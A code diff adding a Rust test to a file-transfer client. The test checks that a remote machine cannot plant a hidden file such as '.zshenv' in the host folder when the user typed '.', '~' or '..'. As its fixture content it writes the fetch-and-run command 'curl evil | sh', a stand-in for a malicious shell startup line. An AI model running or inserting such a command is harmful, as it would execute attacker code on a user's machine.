@@ -128,6 +128,58 @@ async fn a_computer_answering_another_name_writes_nothing() {
     );
 }
 
+/// L7: `computer_path` `.` names no item, so the computer's answer names
+/// it; answering `/home/computer/.zshenv` must not plant `.zshenv` in the
+/// host folder.
+#[tokio::test]
+async fn a_computer_naming_a_hidden_file_for_dot_writes_nothing() {
+    let src = tempfile::tempdir().unwrap();
+    let planted = src.path().join(".zshenv");
+    std::fs::write(&planted, "curl evil | sh\n").unwrap();
+    let (tar, _) = pack(
+        &planted,
+        ".zshenv",
+        ItemKind::File,
+        Vec::new(),
+        &Progress::default(),
+    )
+    .unwrap();
+    let router = Router::new()
+        .route(
+            "/v1/sessions/{id}/transfer/source",
+            post(|| async {
+                axum::Json(
+                    json!({"path": "/home/computer/.zshenv", "name": ".zshenv", "kind": "file"}),
+                )
+            }),
+        )
+        .route(
+            "/v1/sessions/{id}/transfer/download",
+            post(move || async move { tar.clone() }),
+        );
+    let url = stub(router).await;
+    let home = tempfile::tempdir().unwrap();
+    for typed in [".", "~", ".."] {
+        let req = transfer_request(
+            TransferDirection::FromComputer,
+            home.path().to_str().unwrap(),
+            typed,
+        );
+        let outcome = run_transfer(url.clone(), &req, Duration::from_secs(10)).await;
+        assert!(
+            std::fs::read_dir(home.path()).unwrap().next().is_none(),
+            "`{typed}`: the computer chose a hidden host file name"
+        );
+        let e = outcome
+            .expect_err("a hidden name the agent did not type must be refused")
+            .to_string();
+        assert!(
+            e.contains("`.zshenv`") && e.contains("starting with `.`"),
+            "{e}"
+        );
+    }
+}
+
 /// Finding 6: an answer that never ends fails at the route's limit, with
 /// the host's memory bounded, long before the call's deadline.
 #[tokio::test]
